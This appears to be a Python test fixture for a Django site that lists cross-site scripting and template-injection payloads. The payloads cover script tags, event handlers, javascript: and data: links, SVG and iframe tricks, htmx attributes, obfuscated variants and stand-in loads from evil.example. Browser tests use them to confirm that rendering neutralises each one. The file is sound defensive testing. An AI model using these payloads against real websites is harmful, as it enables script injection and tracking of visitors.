"""Cross-site scripting payloads for everything people write: article titles, summaries and
texts, comments, edit proposals, reasons and notes.

Each payload either calls alert/confirm/prompt (a browser dialog) or sets ``window.__xss``, or
tries to load something from ``evil.example``; the browser journeys watch for all three. Texts
are Markdown rendered by markdown-it and cleaned by nh3, plain fields are escaped by Django's
templates, so none of these may do anything but show up as text (or as a harmless link).

``TEMPLATE_INJECTIONS`` must appear verbatim in the page: text is never run as a template.
"""

# Raw <script> in every spelling: rendered as text (Markdown does not pass HTML through).
SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>window.__xss=1</SCRIPT>",
    "<ScRiPt >alert(1)</sCrIpT >",
    "<script\n>window.__xss=1</script\n>",
    "<script\t type='text/javascript'>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>window.__xss=1<</script>/script>",
    "<script src=https://evil.example/x.js></script>",
    '<script/xss src="https://evil.example/x.js"></script>',
    "<script>/*</script><script>*/window.__xss=1</script>",
    "\ufeff<script>alert(1)</script>",
]

# Breaking out of the attribute or element a plain field lands in (title, meta description,
# textarea of the edit forms, the <title> of the page).
BREAKOUTS = [
    '"><script>alert(1)</script>',
    "'><script>window.__xss=1</script>",
    '" autofocus onfocus="window.__xss=1" x="',
    "</textarea><script>alert(1)</script>",
    "</title><script>window.__xss=1</script>",
    "</p></div></main><script>alert(1)</script>",
]

# Event handlers on all kinds of elements.
EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="window.__xss=1">',
    "<IMG SRC=javascript:alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg/onload=window.__xss=1>",
    "<body onload=alert(1)>",
    "<details open ontoggle=window.__xss=1>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=window.__xss=1></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=window.__xss=1>x</marquee>",
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
]

# javascript:, data: and vbscript: addresses in Markdown links, in every encoding.
MARKDOWN_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:window.__xss=1)",
    "[x]( javascript:alert(1))",
    "[x](\n  JAVASCRIPT:window.__xss=1)",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A;&#x61;vascript:window.__xss=1)",
    "[x](java&#09;script:alert(1))",
    "[x](jav&#x09;ascript:window.__xss=1)",
    "[x](javascript\\:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](javascript://%0Aalert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:text/html,<script>window.__xss=1</script>)",
    "[x](DATA:text/html,%3Cscript%3Ealert(1)%3C/script%3E)",
    "[x](vbscript:msgbox(1))",
    "[<img src=x onerror=alert(1)>](https://x.example)",
    "[x](https://x.example)<img src=x onerror=window.__xss=1>",
    # Reference links (each with its own label, so they can all share one text).
    "[x][ref-js]\n\n[ref-js]: javascript:alert(1)",
    '[x][ref-js2]\n\n[ref-js2]: JavaScript:window.__xss=1 "title"',
    "[x][ref-data]\n\n[ref-data]: data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    # Autolinks.
    "<javascript:alert(1)>",
    "<JAVASCRIPT:window.__xss=1>",
    "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<vbscript:msgbox(1)>",
]

# Link titles are attributes: quotes must not end them.
LINK_TITLES = [
    '[a](https://x.example "onmouseover=alert(1)")',
    '[a](https://x.example "\\" onmouseover=\\"window.__xss=1")',
    "[a](https://x.example '\" onmouseover=\"alert(1)')",
    '[a][ref-title]\n\n[ref-title]: https://x.example "\\" onmouseover=\\"alert(1)"',
]

# Images: only our own uploads under /media/ may load; nothing from elsewhere, no scripts.
IMAGES = [
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.gif)",
    '![x](https://evil.example/p.gif "tracking")',
    "![x](//evil.example/p.gif)",
    "![x](HTTPS://EVIL.EXAMPLE/p.gif)",
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "![x][ref-img]\n\n[ref-img]: https://evil.example/ref.gif",
    '![" onerror="alert(1)](/media/knowledge/x.png)',
    '![x](/media/knowledge/x.png "\\" onerror=\\"window.__xss=1")',
    "![x](/media/../../evil.example/p.gif)",
    "![x](/media/%2e%2e/%2e%2e/konto/logout/)",
    "![x](/media/.%2E/wissen/neu/)",
    "![x](/media/\\\\evil.example/p.gif)",
    "[![x](https://evil.example/nested.gif)](https://x.example)",
]

# SVG, frames, plugins, styles, meta refresh and friends.
ACTIVE_ELEMENTS = [
    "<svg><script>alert(1)</script></svg>",
    '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
    '<svg><a xlink:href="javascript:window.__xss=1"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    "<style>@import url(https://evil.example/x.css);</style>",
    '<div style="background:url(https://evil.example/p.gif)">x</div>',
    '<div style="width: expression(alert(1))">x</div>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "<link rel=stylesheet href=https://evil.example/x.css>",
    '<base href="https://evil.example/">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:window.__xss=1">x</a>',
    '<form action="javascript:alert(1)"><button>x</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    # htmx is on every page: its attributes must never come through.
    '<div hx-get="https://evil.example/x" hx-trigger="load">x</div>',
    '<div hx-on:htmx:load="window.__xss=1" data-hx-on::load="alert(1)">x</div>',
    '<div hx-swap-oob="true" id="main">taken over</div>',
    # Mutation XSS: markup that changes meaning when parsed twice.
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    "<div>\n<script>alert(1)</script>\n</div>",
]

# Comments, CDATA and conditional comments that hide markup from naive filters.
COMMENT_TRICKS = [
    "<!--<script>alert(1)</script>-->",
    "<!-- --><script>window.__xss=1</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=window.__xss=1>-->",
]

# Obfuscation: control characters, nul bytes, unicode look-alikes, encodings.
OBFUSCATION = [
    "<img src=x onerror\x00=alert(1)>",
    "<scr\x00ipt>window.__xss=1</scr\x00ipt>",
    "[x](java\x00script:alert(1))",
    "[x](&#x0;javascript:alert(1))",
    "[x](\u200bjavascript:window.__xss=1)",
    "[x](\u2028javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](ｊａｖａｓｃｒｉｐｔ:alert(1))",
    "＜script＞alert(1)＜/script＞",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;window.__xss=1&#60;/script&#62;",
    "\u202e>tpircs/<)1(trela>tpircs<",
]

# Markdown constructs that carry raw text: code, fences with info strings, tables.
MARKDOWN_CONSTRUCTS = [
    "```html\n<script>alert(1)</script>\n```",
    '```" onmouseover="alert(1)\ncode\n```',
    "`<img src=x onerror=window.__xss=1>`",
    "| a |\n|--:|\n| <script>alert(1)</script> |",
    "> <iframe src=https://evil.example/></iframe>",
    "### <img src=x onerror=alert(1)>",
]

# Text is never a template: these must show up exactly as written.
TEMPLATE_INJECTIONS = [
    "{{ 7*7 }}",
    "{{ 7|add:42 }}",
    "{% debug %}",
    "{% load static %}{% get_static_prefix %}",
    '{% include "base.html" %}',
    "{{ request.user.password }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
]

PAYLOADS = [
    *SCRIPT_TAGS,
    *BREAKOUTS,
    *EVENT_HANDLERS,
    *MARKDOWN_LINKS,
    *LINK_TITLES,
    *IMAGES,
    *ACTIVE_ELEMENTS,
    *COMMENT_TRICKS,
    *OBFUSCATION,
    *MARKDOWN_CONSTRUCTS,
    *TEMPLATE_INJECTIONS,
]

# Where a payload would run, it proves itself in one of these ways.
EVIL_HOST = "evil.example"


def payload_id(payload: str) -> str:
    """A short readable test id (pytest ids must be printable)."""
    text = payload.encode("unicode_escape").decode("ascii")
    return text[:60]


def all_in_one(payloads=PAYLOADS) -> str:
    """One Markdown text with every payload as its own paragraph."""
    return "\n\n".join(payloads)
